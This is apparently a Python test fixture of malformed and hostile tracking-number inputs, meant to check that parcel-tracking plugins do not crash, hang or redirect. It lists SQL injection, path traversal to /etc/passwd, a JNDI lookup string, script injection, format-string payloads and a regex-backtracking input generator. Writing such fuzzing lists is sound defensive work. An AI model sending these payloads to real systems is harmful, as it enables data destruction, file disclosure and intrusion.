"""Numbers nobody has, as people and attackers type them: no plugin crashes, hangs or goes elsewhere for one."""

import re
from collections.abc import Sequence
from typing import Final

ORDINARY: Final = "RR123456785SE"
HOSTILE: Final[tuple[str, ...]] = (
    "",
    " ",
    "\t\r\n",
    "0",
    "-1",
    "null",
    "None",
    "NaN",
    "A" * 5000,
    "1" * 5000,
    "1" * 40 + "!",
    "A1" * 40 + "!",
    "A" * 40 + "!",
    "AB" * 30 + "1" * 30 + "\n",
    "RR123456785SE\n",
    "RR123456785SE\x00",
    "RR 123 456 785 SE",
    "rr123456785se",
    "１２３４５６７８９０１２",  # full-width digits: str.isdigit() says yes, int() too
    "٠١٢٣٤٥٦٧٨٩",
    "¹²³⁴⁵⁶⁷⁸⁹",  # isdigit() says yes, int() raises
    "\u202eES587654321RR",
    "\u200bRR123456785SE\u200f",
    "\x1b[31mRR123456785SE",
    "\x07\x08\x7f",
    "'; DROP TABLE parcels; --",
    '" OR "1"="1',
    "../../../../etc/passwd",
    "..%2f..%2fadmin",
    "/admin",
    "//elsewhere.example/x",
    "@elsewhere.example",
    "x@elsewhere.example/",
    ".elsewhere.example",
    ":8080/x",
    "\\\\elsewhere.example\\x",
    "?admin=1",
    "x&admin=1",
    "x#admin",
    "x;admin",
    "https://elsewhere.example/",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    "{number}",
    "{0}{0.__class__}",
    "%s%n",
    "${jndi:ldap://elsewhere.example/x}",
    "📦📦📦",
    "é" * 30,
    "İıŞş",  # lower() changes the length
    "\ufeffRR123456785SE",
    "\U0010ffff",
)

FOREIGN: Final[tuple[str, ...]] = (
    "1234567890",
    "123456789012",
    "00000000000",
    "ABCDEFGHIJKL",
    "A1",
    "hello",
    "#1001",
    "2026-11-25",
)


def near_misses(numbers: Sequence[str]) -> list[str]:
    """Texts that almost have the form of `numbers`, which patterns with nested repeats never finish with."""
    found = []
    for number in numbers:
        stretched = re.sub(r"\d+", "1" * 60, re.sub(r"[A-Za-z]+", "A" * 60, number))
        digits = re.sub(r"\d+", "1" * 60, number)
        found += [
            number + "!",
            number[:-1] + "!",
            number * 40 + "!",
            number * 400,
            digits + "!",
            stretched + "!",
            number + " " * 3000 + "!",
        ]
    return list(dict.fromkeys(found))
